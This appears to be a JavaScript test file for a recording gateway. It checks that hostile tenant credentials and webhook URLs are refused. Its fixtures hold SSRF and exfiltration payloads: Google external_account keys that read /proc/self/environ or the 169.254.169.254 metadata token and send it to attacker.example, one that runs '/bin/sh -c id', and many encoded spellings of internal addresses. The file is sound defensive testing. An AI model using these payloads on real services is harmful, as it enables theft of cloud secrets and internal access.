// Hostile tenant, credentials: what a project hands rtcgate must not turn a recorder (or our own
// webhook deliveries) against the deployment. Against the real Worker in workerd, configured as in
// production (no WEBHOOK_ALLOW_HTTP_LOOPBACK):
//  - a GCP key of any type but `service_account`, with a field a key file does not have, or naming
//    endpoints other than Google's, is `422 DESTINATION_UNSUPPORTED` (`credentials.credentials`);
//  - an S3 endpoint that is not https:// to a public host (every spelling of an internal address),
//    an S3 region that is not a plain name and an Azure account name that is not 3–24 lowercase
//    letters and digits are refused the same way, naming the field;
//  - nothing refused is stored (destination/list and webhook/list stay empty);
//  - every spelling of an internal webhook address gets exactly the answer `https://127.0.0.1/` gets
//    (400: an address is outside the documented form), and an internal host name is 422;
//  - genuine credentials and public webhook URLs are still taken.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';

import { startWorker, api, adminSetup, randomToken } from './support/harness.mjs';
import { assertError } from './support/fixtures.mjs';

const ENCRYPTION_KEY = '3c9e21b84d57a6e0c3f19b2d4e8a7c5f0e1d2c3b4a5968778695a4b3c2d16a0f';

let w;
let key;

before(async () => {
  w = await startWorker({ name: 'tenant-creds', vars: { ADMIN_TOKEN: randomToken(), RTCGATE_ENCRYPTION_KEY: ENCRYPTION_KEY } });
  ({ key } = await adminSetup(w, { projectName: 'hostile' }));
});

after(async () => {
  await w?.stop();
});

const createDestination = (body) => api(w, 'POST', '/v1/rtc/recording/destination/create', { key, body });
const createWebhook = (url) => api(w, 'POST', '/v1/rtc/webhook/create', { key, body: { url } });

async function destinations() {
  const r = await api(w, 'GET', '/v1/rtc/recording/destination/list', { key });
  assert.equal(r.status, 200, r.text);
  return r.json.items;
}

async function webhooks() {
  const r = await api(w, 'GET', '/v1/rtc/webhook/list', { key });
  assert.equal(r.status, 200, r.text);
  return r.json.items;
}

/** A service-account key as Google's console writes one (the key itself shortened). */
function serviceAccount(changes = {}) {
  const doc = {
    type: 'service_account',
    project_id: 'acme-media',
    private_key_id: '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c',
    private_key: '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC-e2e-PRIVATE\n-----END PRIVATE KEY-----\n',
    client_email: 'recorder@acme-media.iam.gserviceaccount.com',
    client_id: '104573428843930516717',
    auth_uri: 'https://accounts.google.com/o/oauth2/auth',
    token_uri: 'https://oauth2.googleapis.com/token',
    auth_provider_x509_cert_url: 'https://www.googleapis.com/oauth2/v1/certs',
    client_x509_cert_url: 'https://www.googleapis.com/robot/v1/metadata/x509/recorder%40acme-media.iam.gserviceaccount.com',
    universe_domain: 'googleapis.com',
  };
  for (const [k, v] of Object.entries(changes)) {
    if (v === undefined) delete doc[k];
    else doc[k] = v;
  }
  return doc;
}

// The attack: LiveKit's recorder loads any Google credential type; this one makes it read
// a file (or the metadata address) and POST it to the tenant's URL.
const EXTERNAL_ACCOUNT = {
  type: 'external_account',
  audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x',
  subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
  token_url: 'https://attacker.example/token',
  credential_source: { file: '/proc/self/environ' },
};

const REFUSED_GCP_KEYS = {
  'external_account (file)': EXTERNAL_ACCOUNT,
  'external_account (metadata URL)': {
    ...EXTERNAL_ACCOUNT,
    credential_source: { url: 'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', headers: { 'Metadata-Flavor': 'Google' } },
  },
  'external_account (executable)': { ...EXTERNAL_ACCOUNT, credential_source: { executable: { command: '/bin/sh -c id' } } },
  authorized_user: { type: 'authorized_user', client_id: 'x', client_secret: 'y', refresh_token: 'z' },
  impersonated_service_account: { type: 'impersonated_service_account', service_account_impersonation_url: 'https://attacker.example/', source_credentials: {} },
  external_account_authorized_user: { type: 'external_account_authorized_user', token_url: 'https://attacker.example/' },
  'no type': serviceAccount({ type: undefined }),
  'type in capitals': serviceAccount({ type: 'SERVICE_ACCOUNT' }),
  'token_uri elsewhere': serviceAccount({ token_uri: 'https://attacker.example/token' }),
  'token_uri at the metadata address': serviceAccount({ token_uri: 'http://169.254.169.254/token' }),
  'token_uri under a look-alike host': serviceAccount({ token_uri: 'https://oauth2.googleapis.com.attacker.example/token' }),
  'no token_uri': serviceAccount({ token_uri: undefined }),
  'auth_uri elsewhere': serviceAccount({ auth_uri: 'https://attacker.example/auth' }),
  'cert URL elsewhere': serviceAccount({ auth_provider_x509_cert_url: 'http://10.0.0.1/certs' }),
  'client cert URL elsewhere': serviceAccount({ client_x509_cert_url: 'https://attacker.example/x509/recorder' }),
  'another universe': serviceAccount({ universe_domain: 'attacker.example' }),
  'a credential_source on a service account': serviceAccount({ credential_source: { file: '/etc/passwd' } }),
  'a token_url on a service account': serviceAccount({ token_url: 'https://attacker.example/' }),
  'a non-string value': serviceAccount({ private_key: { file: '/etc/passwd' } }),
  'no private key': serviceAccount({ private_key: undefined }),
};

test('GCP keys other than a plain service_account key naming Google are refused, as an object or as text, and nothing is stored', async () => {
  for (const [what, doc] of Object.entries(REFUSED_GCP_KEYS)) {
    for (const credentials of [doc, JSON.stringify(doc)]) {
      const r = await createDestination({ uri: 'gs://acme-rec/calls/', credentials: { credentials } });
      const e = assertError(r, 422, 'DESTINATION_UNSUPPORTED', { field: 'credentials.credentials' });
      assert.ok(!r.text.includes('PRIVATE'), `${what}: the key echoed back`);
      assert.ok(e.message.length > 0, what);
    }
  }
  // As text, a later "type" counts (as in every JSON body rtcgate reads): a service-account key
  // ending in another type is that other type.
  const lastTypeExternal = `${JSON.stringify(serviceAccount()).slice(0, -1)},"type":"external_account"}`;
  assertError(await createDestination({ uri: 'gs://acme-rec/calls/', credentials: { credentials: lastTypeExternal } }), 422, 'DESTINATION_UNSUPPORTED', { field: 'credentials.credentials' });
  assert.deepEqual(await destinations(), [], 'a refused destination was stored');
});

const INTERNAL_HOSTS = [
  '127.0.0.1',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0177.0.0.1',
  'localhost',
  'minio.localhost',
  '10.0.0.5',
  '172.16.0.1',
  '192.168.1.10',
  '169.254.169.254',
  '0xa9fea9fe',
  '%31%36%39.254.169.254',
  '１６９.２５４.１６９.２５４',
  '100.64.1.1',
  '0.0.0.0',
  '224.0.0.1',
  '255.255.255.255',
  '198.18.0.1',
  '[::1]',
  '[::]',
  '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]',
  '[::127.0.0.1]',
  '[64:ff9b::10.0.0.1]',
  '[2002:a9fe:a9fe::1]',
  '[fd00:ec2::254]',
  '[fe80::1]',
  '[ff02::1]',
  'metadata.google.internal',
  'printer.local',
];

test('S3 endpoints that are not https:// to a public host, odd regions and odd Azure account names are refused, and nothing is stored', async () => {
  const s3 = (extra) => createDestination({ uri: 's3://acme-rec/calls/', credentials: { access_key: 'AKIA-E2E', secret: 'e2e-secret', ...extra } });
  for (const endpoint of ['http://s3.example.com', 'ftp://s3.example.com', ...INTERNAL_HOSTS.flatMap((h) => [`https://${h}`, `https://${h}:9000/`])]) {
    assertError(await s3({ endpoint }), 422, 'DESTINATION_UNSUPPORTED', { field: 'credentials.endpoint' });
  }
  for (const region of ['us-east-1.attacker.example', 'x@169.254.169.254', 'us-east-1/', 'eu west']) {
    assertError(await s3({ region }), 422, 'DESTINATION_UNSUPPORTED', { field: 'credentials.region' });
  }
  for (const account_name of ['ab', 'a'.repeat(25), 'Acme', 'acme-media', 'acme.attacker.example', 'acme/x', '169.254.169.254']) {
    const r = await createDestination({ uri: 'azure://box/calls/', credentials: { account_name, account_key: 'azure-e2e-key' } });
    assertError(r, 422, 'DESTINATION_UNSUPPORTED', { field: 'credentials.account_name' });
  }
  assert.deepEqual(await destinations(), [], 'a refused destination was stored');
});

// A host name (its last label starts with a letter), as opposed to an address in any notation.
const IS_NAME = (h) => /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*$/.test(h) && /^[A-Za-z]/.test(h.split('.').at(-1));

test('every spelling of an internal webhook host gets the answer https://127.0.0.1/ gets, and nothing is stored', async () => {
  const reference = await createWebhook('https://127.0.0.1/');
  const expected = assertError(reference, 400, 'INVALID_REQUEST', { field: 'url' });
  const same = (r, url) => {
    const e = assertError(r, 400, 'INVALID_REQUEST', { field: 'url' });
    assert.equal(e.message, expected.message, url);
  };
  const spellings = [
    'http://2130706433/',
    'https://2130706433/',
    'https://0177.0.0.1/',
    'https://0x7f.1/',
    'https://127.1/',
    'https://127.0.0.1./',
    'https://%31%32%37.0.0.1/',
    'https://１２７.０.０.１/',
    'https://[::ffff:127.0.0.1]/',
    'https://[::127.0.0.1]/',
    'https://[64:ff9b::7f00:1]/',
    ...INTERNAL_HOSTS.filter((h) => !IS_NAME(h)).map((h) => `https://${h}/hook`),
  ];
  for (const url of spellings) same(await createWebhook(url), url);
  // An internal host *name* is of the documented form (a host name), so it is a business-rule
  // refusal, 422, naming `url` — the document cannot list every internal name.
  for (const url of ['https://localhost./', ...INTERNAL_HOSTS.filter(IS_NAME).map((h) => `https://${h}/hook`)]) {
    assertError(await createWebhook(url), 422, 'DESTINATION_NOT_ALLOWED', { field: 'url' });
  }
  // Trailing junk after an address is no URL at all: still a 400 naming `url`.
  for (const url of ['https://127.0.0.1:443junk/', 'https://127.0.0.1%00/', 'https://1.2.3.4.5/', 'https://[::1/', 'https://user:pw@127.0.0.1/']) {
    assertError(await createWebhook(url), 400, 'INVALID_REQUEST', { field: 'url' });
  }
  assert.deepEqual(await webhooks(), [], 'a refused webhook was stored');
});

test('genuine credentials and public webhook URLs are still taken', async () => {
  const created = [];
  for (const body of [
    { uri: 'gs://acme-rec/gcs/', credentials: { credentials: serviceAccount() } },
    { uri: 'gs://acme-rec/gcs-text/', credentials: { credentials: JSON.stringify(serviceAccount({ hmac_access_key: 'GOOG1E2E', hmac_secret: 'e2e-hmac' })) } },
    { uri: 's3://acme-rec/aws/', credentials: { access_key: 'AKIA-E2E', secret: 'e2e-secret', region: 'eu-west-1' } },
    { uri: 's3://acme-rec/s3/', credentials: { access_key: 'AKIA-E2E', secret: 'e2e-secret', endpoint: 'https://s3.example.com' } },
    { uri: 's3://acme-rec/minio/', credentials: { access_key: 'AKIA-E2E', secret: 'e2e-secret', endpoint: 'https://minio.example.com:9000' } },
    { uri: 'azure://box/calls/', credentials: { account_name: 'acmemedia01', account_key: 'azure-e2e-key' } },
  ]) {
    const r = await createDestination(body);
    assert.equal(r.status, 201, `${JSON.stringify(body.uri)}: ${r.text}`);
    assert.ok(!r.text.includes('PRIVATE') && !r.text.includes('e2e-secret'), 'credentials echoed back');
    created.push(r.json.destination);
  }
  assert.deepEqual((await destinations()).map((d) => d.destination).sort(), created.sort());

  const hook = await createWebhook('https://Hooks.Example.com/rtc?tenant=1');
  assert.equal(hook.status, 201, hook.text);
  assert.equal(hook.json.url, 'https://hooks.example.com/rtc?tenant=1', 'stored as parsed');
  // Webhook receivers are named hosts: an IP literal, even a public one, is outside the
  // documented form (400), so no notation of an address has to be judged as a name.
  assertError(await createWebhook('https://93.184.216.34:8443/h'), 400, 'INVALID_REQUEST', { field: 'url' });
  assert.deepEqual((await webhooks()).map((h) => h.url), ['https://hooks.example.com/rtc?tenant=1']);
});
